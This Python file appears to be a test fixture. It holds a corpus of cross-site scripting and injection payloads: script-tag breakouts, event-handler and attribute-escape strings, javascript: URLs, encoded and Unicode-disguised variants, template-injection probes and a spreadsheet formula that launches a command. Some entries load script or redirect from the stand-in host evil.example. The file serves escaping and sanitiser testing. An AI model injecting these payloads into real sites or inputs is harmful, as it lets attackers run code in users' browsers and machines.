"""Text that would like to be a program: a corpus, each piece short enough for a name.

Every piece that gets to run counts in ``window.ran``. They try to leave a text, an attribute, a
textarea, a title, a style, a comment, a script and a template, in several spellings.
"""

RAN = "ran=(self.ran||0)+1"

PAYLOADS = (
    # A script of one's own, out of whatever one may be in.
    f"<script>{RAN}</script>",
    f"</textarea><script>{RAN}</script>",
    f"</title></style></script><script>{RAN}</script>",
    f"--><script>{RAN}</script><!--",
    f"]]><script>{RAN}</script>",
    f"</option></select><script>{RAN}</script>",
    f"</noscript></template><script>{RAN}</script>",
    f"<scr<script>ipt>{RAN}</scr</script>ipt>",
    f"<SCRIPT/x>{RAN}</SCRIPT\t>",
    f"<script\n>{RAN}</script\n>",
    f"<script>{RAN}//",
    "<script src=data:text/javascript,ran=1></script>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module src=//evil.example/x.mjs></script>",
    # What runs by itself when it is drawn.
    f"<img src=x onerror={RAN}>",
    f"<img/src/onerror={RAN}>",
    f"<IMG SRC=x ONERROR={RAN}>",
    f"<svg onload={RAN}>",
    f"<svg><script>{RAN}</script></svg>",
    f"<svg><animate onbegin={RAN} attributeName=x dur=1s>",
    f"<math><mtext><img src=x onerror={RAN}></mtext></math>",
    f"<body onload={RAN}>",
    f"<video><source onerror={RAN}></video>",
    f"<audio src=x onerror={RAN}>",
    f"<details open ontoggle={RAN}>",
    f"<marquee onstart={RAN}>x</marquee>",
    f"<input autofocus onfocus={RAN}>",
    f"<select autofocus onfocus={RAN}></select>",
    f"<style onload={RAN}></style>",
    f"<object data=x onerror={RAN}></object>",
    f"<p style=animation:x onanimationstart={RAN}>",
    # Out of an attribute.
    f'"><img src=x onerror={RAN}>',
    f"'><img src=x onerror={RAN}>",
    f'" autofocus onfocus="{RAN}" x="',
    f"' autofocus onfocus='{RAN}' x='",
    f"` onmouseover=`{RAN}",
    f"x onpointerrawupdate={RAN} y=",
    f"&quot; onfocus=&quot;{RAN}",
    # Addresses that are programs, and pages inside the page.
    f"javascript:{RAN}",
    f"JaVaScRiPt:{RAN}//",
    f"java\tscript:{RAN}",
    f"<a href=javascript:{RAN}>x</a>",
    f"<iframe src=javascript:parent.{RAN}></iframe>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    f"<form><button formaction=javascript:{RAN}>x",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example'</style>",
    # Other spellings of a bracket, and letters that hide or turn round.
    "\\u003cscript\\u003eran=1\\u003c/script\\u003e",
    "&lt;script&gt;ran=1&lt;/script&gt;&#60;script&#62;",
    "%3Cscript%3Eran=1%3C/script%3E",
    "\uff1cscript\uff1eran=1\uff1c/script\uff1e",
    "<\u200bscript>ran=1</script>",
    "\u202e<script>ran=1</script>\u202c\u2066",
    # Templates, formats and scripts that a careless page fills in.
    "{{7*7}}{{config}}{%print(1)%}",
    "${7*7}#{7*7}<%=7*7%>",
    "%(hub)s%s%(unknown)s{0}{x!r}",
    "';ran=1;//",
    '";ran=1;//',
    "`${ran=1}`",
    "</script><script>ran=1//",
    "'-alert(1)-'",
    "=cmd|' /C calc'!A0",
)
